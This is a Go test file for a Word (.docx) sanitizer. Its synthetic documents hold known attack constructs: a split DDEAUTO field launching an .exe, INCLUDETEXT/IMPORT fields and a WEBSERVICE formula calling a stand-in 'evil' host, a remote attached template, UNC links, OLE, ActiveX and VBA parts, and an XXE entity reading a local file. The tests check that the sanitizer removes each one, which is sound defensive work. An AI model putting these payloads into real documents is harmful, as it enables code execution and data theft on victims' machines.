package ooxml

import (
	"strings"
	"testing"

	"sekisho/sanitize"
	"sekisho/sanitize/sanitizetest"
)

// complexField returns a paragraph with a field whose code comes in pieces.
func complexField(result string, code ...string) string {
	var b strings.Builder
	b.WriteString(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`)
	for _, c := range code {
		b.WriteString(`<w:r><w:rPr><w:b/></w:rPr><w:instrText xml:space="preserve">` + c + `</w:instrText></w:r>`)
	}
	return b.String() + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + result + `</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

const oleObject = `<w:p><w:r><w:object w:dxaOrig="1" w:dyaOrig="2"><v:shape id="s1" style="width:10pt" o:ole=""><v:imagedata r:id="rId5" o:title=""/></v:shape>` +
	`<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" DrawAspect="Icon" ObjectID="_1" r:id="rId6"/></w:object></w:r></w:p>`

func wordCases() []sanitizetest.Case {
	strict := sanitize.Strict()
	withPicture := func(f files) files {
		return f.with("word/media/p.png", picture(), typesName, types("png", "image/png", "bin", "application/x", "/word/document.xml", variants[Docx].main))
	}
	return []sanitizetest.Case{
		{Name: "plain", Input: word(run("住民票の写し　髙﨑　①㈱")).zip(), Keep: []string{"住民票の写し　髙﨑　①㈱"}, Exact: true},
		{
			Name: "DDE field in pieces", Input: word(complexField("shown result", "DD", "EAUTO c:\\evil", ".exe")).zip(),
			Gone: []string{"evil", "EAUTO", "instrText"}, Keep: []string{"shown result"}, Rules: []string{ruleField}, Exact: true,
		},
		{
			Name:  "simple field",
			Input: word(`<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil/x&quot; "><w:r><w:t>result</w:t></w:r></w:fldSimple><w:fldSimple w:instr="PAGE"><w:r><w:t>7</w:t></w:r></w:fldSimple></w:p>`).zip(),
			Gone:  []string{"evil", "INCLUDETEXT"}, Keep: []string{"result", "PAGE"}, Rules: []string{ruleField}, Exact: true,
		},
		{
			Name: "good fields stay",
			Input: word(complexField("12", " PAGE \\* MERGEFORMAT ") + complexField("目次", " TOC \\o ", "&quot;1-3&quot; \\h \\z \\u ") +
				complexField("link", ` HYPERLINK "https://www.example.jp/?a=b" \o "説明" `) + complexField("place", ` HYPERLINK \l "_Toc1" `)).zip(),
			Keep: []string{"MERGEFORMAT", "1-3", "www.example.jp", "_Toc1"}, Exact: true,
		},
		{
			Name:  "bad hyperlink field",
			Input: word(complexField("text", ` HYPERLINK "file://evil/share" `) + complexField("text2", ` HYPERLINK "\\\\evil\\share" `)).zip(),
			Gone:  []string{"evil"}, Keep: []string{"text", "text2"}, Rules: []string{ruleField}, Exact: true,
		},
		{
			Name: "field inside the code of a bad one",
			Input: word(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE </w:instrText></w:r>` +
				`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 99 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>` +
				`<w:r><w:t>hiddenevil</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>` +
				`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>visible</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`).zip(),
			Gone: []string{"DDE", "QUOTE", "hiddenevil"}, Keep: []string{"visible"}, Rules: []string{ruleField}, Exact: true,
		},
		{
			Name: "field in one run and without an end",
			Input: word(`<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>IMPORT evil</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>one</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
				`<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE evil</w:instrText></w:r></w:p>`).zip(),
			Gone: []string{"evil", "fldChar"}, Keep: []string{"one"}, Rules: []string{ruleField}, Exact: true,
		},
		{
			Name: "OLE object leaves its picture",
			Input: withPicture(word(run("before")+oleObject)).with("word/embeddings/o.bin", "evil binary",
				"word/_rels/document.xml.rels", rels("rId5", "image", "media/p.png", "rId6", "oleObject", "embeddings/o.bin")).zip(),
			Gone: []string{"evil", "OLEObject", "dxaOrig", "w:object", "o:ole"}, Keep: []string{"before", "<w:pict><v:shape", "image1.png"}, Rules: []string{ruleOLE}, Exact: true,
		},
		{
			Name: "embedded workbook stays, clean",
			Input: withPicture(word(oleObject)).with("word/embeddings/o.xlsm", string(workbook(Xlsm, `<row r="1"><c r="A1"><f>WEBSERVICE("http://evil")</f><v>42</v></c></row>`).zip()),
				"word/_rels/document.xml.rels", rels("rId5", "image", "media/p.png", "rId6", "package", "embeddings/o.xlsm")).zip(),
			Gone: []string{"evil", "macroEnabled"}, Keep: []string{"OLEObject", "package1.xlsx", "<v>42</v>"}, Rules: []string{ruleFormula, ruleMacro}, Exact: true,
		},
		{
			Name: "external targets",
			Input: word(`<w:p><w:hyperlink r:id="rId2"><w:r><w:t>good</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId3"><w:r><w:t>bad</w:t></w:r></w:hyperlink></w:p>`).
				with("word/_rels/document.xml.rels", rels("rId2", "hyperlink", "!https://www.example.jp/", "rId3", "hyperlink", "!ms-word:ofe|u|http://evil/",
					"rId4", "image", "!file:///etc/evil", "rId5", "settings", "settings.xml"),
					"word/settings.xml", `<w:settings `+nsW+` `+nsR+`><w:attachedTemplate r:id="rId1"/><w:mailMerge/><w:zoom w:percent="100"/></w:settings>`,
					"word/_rels/settings.xml.rels", rels("rId1", "attachedTemplate", "!http://evil/t.dotm")).zip(),
			Gone: []string{"evil", "attachedTemplate", "mailMerge"}, Keep: []string{"good", "bad", "www.example.jp", "percent"},
			Rules: []string{ruleHyperlink, ruleExternalLink, ruleMailMerge, ruleDangling}, Exact: true,
		},
		{
			Name: "custom XML that is bound, and that is not",
			Input: word(`<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{AAA}"/></w:sdtPr><w:sdtContent>`+run("content")+`</w:sdtContent></w:sdt>`).
				with("word/_rels/document.xml.rels", rels("rId1", "customXml", "../customXml/item1.xml", "rId2", "customXml", "../customXml/item2.xml"),
					"customXml/item1.xml", `<a xmlns="urn:mine">bound</a>`, "customXml/_rels/item1.xml.rels", rels("rId1", "customXmlProps", "itemProps1.xml"),
					"customXml/itemProps1.xml", `<ds:datastoreItem ds:itemID="{AAA}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>`,
					"customXml/item2.xml", `<a>evil</a>`).zip(),
			Gone: []string{"evil"}, Keep: []string{"content", "bound", "{AAA}"}, Rules: []string{ruleCustomXML}, Exact: true,
		},
		{
			Name: "properties by their old name",
			Input: word(run("a")).with("_rels/.rels", rels("rId1", "officeDocument", "word/document.xml", "rId2", relCoreOld, "docProps/core.xml"),
				"docProps/core.xml", `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>表題</dc:title></cp:coreProperties>`).zip(),
			Keep: []string{"表題"}, Exact: true,
		},
		{
			Name: "alternatives",
			Input: word(`<w:p><w:r><mc:AlternateContent><mc:Choice xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" Requires="wps"><w:drawing/></mc:Choice><mc:Fallback><w:t>old</w:t></mc:Fallback></mc:AlternateContent></w:r>` +
				`<w:r><mc:AlternateContent xmlns:q="urn:evil"><mc:Choice Requires="q"><q:x>evil</q:x></mc:Choice><mc:Fallback><w:t>stays</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>`).zip(),
			Gone: []string{"evil"}, Keep: []string{`Requires="wps"`, "old", "<w:r><w:t>stays</w:t></w:r>"}, Rules: []string{ruleVendor}, Exact: true,
		},
		{
			Name: "parts of all bad kinds",
			Input: word(`<w:altChunk r:id="rId1"/><w:subDoc r:id="rId2"/>`+run("text")+`<w:p><w:r><w:pict><w:control r:id="rId3" w:name="x"/></w:pict></w:r></w:p>`).
				with("word/_rels/document.xml.rels", rels("rId1", "aFChunk", "evil.mht", "rId2", "subDocument", "!evil.docx", "rId3", "control", "activeX/a.xml",
					"rId4", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vba.bin", "rId7", "theme", "../../../evil.xml"),
					"word/evil.mht", "evil", "word/activeX/a.xml", "<evil/>", "word/vba.bin", "evil", "orphan/evil.xml", "<evil/>",
					"_rels/.rels", rels("rId1", "officeDocument", "word/document.xml", "rId2", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "orphan/evil.xml",
						"rId3", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs"),
					"_xmlsignatures/origin.sigs", "evil", "unreferenced.bin", "evil").zip(),
			Gone: []string{"evil", "altChunk", "subDoc"}, Keep: []string{"text"},
			Rules: []string{ruleAltChunk, ruleExternalLink, ruleSubDocument, ruleActiveX, ruleMacro, ruleCustomUI, ruleSignature, ruleDangling, ruleUnreferenced}, Exact: true,
		},
		{
			Name:  "XML tricks",
			Input: word(run("a")).replace("word/document.xml", "<w:document", `<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/evil">]><!-- evil --><?evil?><w:document`).replace("word/document.xml", ">a<", ">a&e;b<").zip(),
			Gone:  []string{"evil", "DOCTYPE"}, Keep: []string{">ab<"}, Rules: []string{ruleDTD, ruleXMLNote}, Exact: true,
		},
		{
			Name: "strict: review, comments, hidden text, links and properties go",
			Input: word(`<w:p><w:ins w:id="1" w:author="a"><w:r><w:t>added</w:t></w:r></w:ins><w:del w:id="2"><w:r><w:delText>deleted</w:delText></w:r></w:del>`+
				`<w:commentRangeStart w:id="0"/><w:r><w:t>noted</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>`+
				`<w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r><w:hyperlink r:id="rId2"><w:r><w:t>linked</w:t></w:r></w:hyperlink></w:p>`).
				with("word/_rels/document.xml.rels", rels("rId1", "comments", "comments.xml", "rId2", "hyperlink", "!https://www.example.jp/"),
					"word/comments.xml", `<w:comments `+nsW+`><w:comment w:id="0">`+run("remark")+`</w:comment></w:comments>`,
					"_rels/.rels", rels("rId1", "officeDocument", "word/document.xml", "rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml"),
					"docProps/core.xml", `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>author</dc:creator></cp:coreProperties>`).zip(),
			Policy: &strict, Gone: []string{"deleted", "remark", "unseen", "www.example.jp", "author"}, Keep: []string{"added", "noted", "linked"},
			Rules: []string{ruleRevision, ruleComment, ruleHidden, ruleHyperlink, ruleMetadata}, Exact: true,
		},
		{Name: "a code in endless pieces", Input: word(complexField("x", strings.Split(strings.Repeat("A ", 5000), " ")...)).zip(), Err: sanitize.ErrLimit},
		{Name: "wrong root", Input: word("").replace("word/document.xml", "<w:document", "<w:hdr").replace("word/document.xml", "</w:document", "</w:hdr").zip(), Err: sanitize.ErrMalformed},
		{Name: "broken XML", Input: word(`<w:p></w:r>`).zip(), Err: sanitize.ErrMalformed},
		{Name: "deep", Input: word(strings.Repeat("<w:sdt>", 5000) + strings.Repeat("</w:sdt>", 5000)).zip(), Err: sanitize.ErrLimit},
		{Name: "part names that differ by case", Input: word("").with("WORD/document.xml", "x").zip(), Err: sanitize.ErrMalformed},
	}
}

func TestWord(t *testing.T) {
	cases := wordCases()
	for i := range cases {
		cases[i].Check = sound
	}
	prove(t, sanitizetest.Suite{
		Format: Docx, Others: others(Docx), Cases: cases,
		Foreign: [][]byte{nil, []byte("PK"), workbook(Xlsx, "").zip(), wordAs(Docm, "").zip(), []byte("%PDF-1.7"), files{"a.txt", "wordprocessingml.document.main+xml"}.zip()},
	})
}
